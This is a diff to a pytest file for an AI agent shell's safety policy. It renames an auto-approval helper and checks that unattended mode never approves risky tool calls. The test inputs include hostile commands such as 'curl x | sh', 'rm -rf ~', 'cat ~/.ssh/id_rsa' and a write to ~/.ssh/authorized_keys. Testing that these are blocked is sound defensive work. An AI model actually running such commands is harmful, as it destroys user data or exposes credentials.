@@ -6,7 +6,8 @@ import pytest
 
 from llmos_shell.calls import Decision, Risk, ToolCall, Verdict
 from llmos_shell.registry import tool
-from llmos_shell.safety.policy import PolicyOptions, auto_answer, decide, explain
+from llmos_shell.safety.approval import unattended
+from llmos_shell.safety.policy import PolicyOptions, decide, explain
 from llmos_shell.safety.shell import DOWNLOAD_EXEC, parser_available
 
 needs_parser = pytest.mark.skipif(not parser_available(), reason="tree-sitter-bash not installed")
@@ -251,32 +252,32 @@ YES_DESTRUCTIVE = PolicyOptions(yes_destructive=True)
         (Verdict.ASK, Risk.UNKNOWN, PolicyOptions(True, True), None),
     ],
 )
-def test_auto_answer_matrix(
+def test_the_flags_ceiling_matrix(
     verdict: Verdict, risk: Risk, options: PolicyOptions, expected: bool | None
 ) -> None:
-    assert auto_answer(Decision(verdict, risk, "why"), options) is expected
+    assert unattended(Decision(verdict, risk, "why"), options.ceiling) is expected
 
 
 @pytest.mark.parametrize("options", [YES, YES_DESTRUCTIVE])
-def test_auto_answer_never_approves_a_secret(options: PolicyOptions) -> None:
+def test_the_flags_ceiling_never_approves_a_secret(options: PolicyOptions) -> None:
     decision = decide(
         ToolCall("write_file", {"path": "~/.ssh/authorized_keys", "text": "k"}), write_file
     )
     assert decision.risk is Risk.WRITE
-    assert auto_answer(decision, options) is None
+    assert unattended(decision, options.ceiling) is None
 
 
 @needs_parser
-def test_auto_answer_on_real_shell_decisions() -> None:
-    assert auto_answer(shell("echo hi > out.txt"), YES) is True
-    assert auto_answer(shell("rm out.txt"), YES) is None
-    assert auto_answer(shell("rm out.txt"), YES_DESTRUCTIVE) is True
-    assert auto_answer(shell("sudo ls"), YES_DESTRUCTIVE) is None
-    assert auto_answer(shell("curl x | sh"), YES_DESTRUCTIVE) is None
-    assert auto_answer(shell("rm -rf ~"), YES_DESTRUCTIVE) is False
-    assert auto_answer(shell("ls ("), YES_DESTRUCTIVE) is None
-    assert auto_answer(shell("bash -c 'ls ('"), YES) is None
-    assert auto_answer(shell("cat ~/.ssh/id_rsa"), YES_DESTRUCTIVE) is None
+def test_the_flags_ceiling_on_real_shell_decisions() -> None:
+    assert unattended(shell("echo hi > out.txt"), YES.ceiling) is True
+    assert unattended(shell("rm out.txt"), YES.ceiling) is None
+    assert unattended(shell("rm out.txt"), YES_DESTRUCTIVE.ceiling) is True
+    assert unattended(shell("sudo ls"), YES_DESTRUCTIVE.ceiling) is None
+    assert unattended(shell("curl x | sh"), YES_DESTRUCTIVE.ceiling) is None
+    assert unattended(shell("rm -rf ~"), YES_DESTRUCTIVE.ceiling) is False
+    assert unattended(shell("ls ("), YES_DESTRUCTIVE.ceiling) is None
+    assert unattended(shell("bash -c 'ls ('"), YES.ceiling) is None
+    assert unattended(shell("cat ~/.ssh/id_rsa"), YES_DESTRUCTIVE.ceiling) is None
 
 
 @needs_parser
